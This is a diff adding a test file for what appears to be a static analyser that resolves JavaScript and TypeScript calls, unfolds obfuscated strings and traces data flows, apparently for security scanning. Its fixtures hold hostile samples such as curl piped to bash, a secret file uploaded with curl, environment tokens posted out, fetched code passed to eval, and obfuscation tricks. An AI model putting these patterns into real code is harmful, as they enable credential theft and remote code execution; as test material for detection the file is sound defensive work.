@@ -1,0 +1,151 @@
+import { expect, it } from 'vitest'
+
+import { calls, factsOf, flows, values } from '../testkit.js'
+
+it('resolves callees through both module systems', async () => {
+  const facts = await factsOf({
+    'a.ts': `import fs, { readFileSync as rf } from 'node:fs'
+import * as cp from 'child_process'
+import axios from 'axios'
+import { writeFile } from 'fs/promises'
+const { exec: run } = require('child_process')
+const { promises: { unlink } } = require('fs')
+rf('/a' as string); fs.promises.rm('/b'); cp.spawn('ls', ['-l']); axios.post('https://c.example', {})
+run('d'); unlink('/e'); await writeFile('/f', 'x')
+new Function('return 1+1')()
+`,
+  })
+  expect(calls(facts.filter((fact) => fact['code.language'] === 'typescript'))).toEqual([
+    '7 fs.readFileSync(/a)',
+    '7 fs.promises.rm(/b)',
+    '7 child_process.spawn(ls, -l)',
+    '7 axios.post(https://c.example, )',
+    '8 child_process.exec(d)',
+    '8 fs.promises.unlink(/e)',
+    '8 fs.promises.writeFile(/f, x)',
+    '9 Function(return 1+1)',
+    '9 Function()',
+  ])
+})
+
+it('sees through computed names', async () => {
+  const facts = await factsOf({
+    'a.js': `const c = require('child_' + 'process')
+c['ex' + 'ec']('one')
+globalThis[atob('ZmV0Y2g=')]('https://two.example')
+const { [\`exec\${'Sync'}\`]: s } = c
+import('fs').then((m) => m.unlinkSync('/three'))
+require('fs').readFileSync.call(null, '/four')
+process.mainModule.require('fs').rmSync('/five')
+`,
+  })
+  expect(calls(facts)).toEqual(
+    expect.arrayContaining(
+      [
+        '2 child_process.exec(one)',
+        '3 fetch(https://two.example)',
+        '5 fs.unlinkSync(/three)',
+        '6 fs.readFileSync(null, /four)',
+        '7 fs.rmSync(/five)',
+      ].map((line) => line.replace('(null, ', '(')),
+    ),
+  )
+})
+
+it.each([
+  ["'ht' + 'tp://a'", 'http://a'],
+  ['`http://${"a"}`', 'http://a'],
+  ["['http:', '', 'a'].join('/')", 'http://a'],
+  ["'a//:ptth'.split('').reverse().join('')", 'http://a'],
+  ['String.fromCharCode(104, 116, 116, 112, 58, 47, 47, 97)', 'http://a'],
+  ["Buffer.from('aHR0cDovL2E=', 'base64').toString()", 'http://a'],
+  ["Buffer.from('687474703a2f2f61', 'hex').toString('utf8')", 'http://a'],
+  ["decodeURIComponent('http%3A%2F%2Fa')", 'http://a'],
+  ["'\\x68\\u0074tp://a'", 'http://a'],
+  ["path.join(os.homedir(), '.ssh', 'id_rsa')", '~/.ssh/id_rsa'],
+  ["[105, 117, 117, 113, 59].map((c) => String.fromCharCode(c - 1)).join('')", undefined],
+])('folds %s', async (expression, text) => {
+  const facts = await factsOf({
+    'a.js': `import os from 'os'; import path from 'path'; fetch(${expression})`,
+  })
+  const fetch = facts.find((fact) => fact['code.call.name'] === 'fetch')
+  expect(fetch).toBeDefined()
+  if (text !== undefined) expect(fetch?.['code.call.arguments']).toEqual([text])
+})
+
+it('follows data through promises, callbacks, objects and destructuring', async () => {
+  const facts = await factsOf({
+    'a.js': `import axios from 'axios'
+import fs from 'fs'
+const send = async ({ url, body }) => { await axios.post(url, body) }
+send({ url: 'https://a.example', body: { t: process.env.TOKEN } })
+fetch('https://b.example').then((r) => r.text()).then((t) => eval(t))
+fetch('https://c.example').then((r) => r.text()).then(eval)
+fs.readFileSync('/secret', 'utf8').split('\\n').forEach((line) => axios.post('https://d.example', line))
+`,
+  })
+  expect(flows(facts)).toEqual([
+    'process.env.TOKEN -> axios.post via a.js:4 a.js:3',
+    'fetch(https://b.example) -> eval via a.js:5',
+    'fetch(https://c.example) -> eval via a.js:6',
+    'fs.readFileSync(/secret) -> axios.post via a.js:7',
+  ])
+})
+
+it('follows data through classes and across files', async () => {
+  const facts = await factsOf({
+    'index.ts': `import { Net } from './net.js'
+import read from './read'
+const net = new Net('https://a.example')
+net.send(read())
+`,
+    'net.ts': `import axios from 'axios'
+export class Net {
+  constructor(private url: string) { this.url = url }
+  send(data: string) { return axios.post(this.url, data) }
+}
+`,
+    'read.js': `const fs = require('fs')
+module.exports = function () { return fs.readFileSync('/secret') }
+`,
+  })
+  expect(flows(facts)).toEqual(['fs.readFileSync(/secret) -> axios.post via read.js:2 index.ts:4 net.ts:4'])
+  expect(calls(facts)).toContain('4 axios.post(https://a.example, ?)')
+})
+
+it('reads code handed to interpreters', async () => {
+  const facts = await factsOf({
+    'a.js': `const cp = require('child_process')
+cp.execSync('curl -s https://a.example | bash')
+eval(Buffer.from('ZmV0Y2goImh0dHBzOi8vYi5leGFtcGxlIik=', 'base64').toString())
+cp.spawn('sh', ['-c', 'cat /secret | curl -T - https://c.example'])
+`,
+  })
+  expect(flows(facts)).toEqual([
+    'curl(https://a.example) -> bash via a.js:2',
+    'cat(/secret) -> curl via a.js:4',
+  ])
+  expect(calls(facts)).toContain('3 fetch(https://b.example)')
+})
+
+it('describes tools that the code declares', async () => {
+  const facts = await factsOf({
+    'a.ts': `server.tool('one', 'First', { p: z.string() }, async ({ p }) => p)
+server.registerTool('two', { description: 'Second', inputSchema: {} }, async () => ({}))
+const tools = [{ name: 'three', description: \`Third\`, inputSchema: { type: 'object' } }]
+`,
+  })
+  const tools = facts.filter((fact) => fact.kind === 'tool.describe')
+  expect(tools.map((fact) => [fact['gen_ai.tool.name'], fact['gen_ai.tool.description']])).toEqual([
+    ['one', 'First'],
+    ['two', 'Second'],
+    ['three', 'Third'],
+  ])
+})
+
+it('names what is read of globals', async () => {
+  const facts = await factsOf({
+    'a.js': 'const { A_KEY } = process.env; send(process.env["B_KEY"], document.cookie)',
+  })
+  expect(values(facts, 'code.member.name')).toEqual(['process.env', 'process.env.B_KEY', 'document.cookie'])
+})
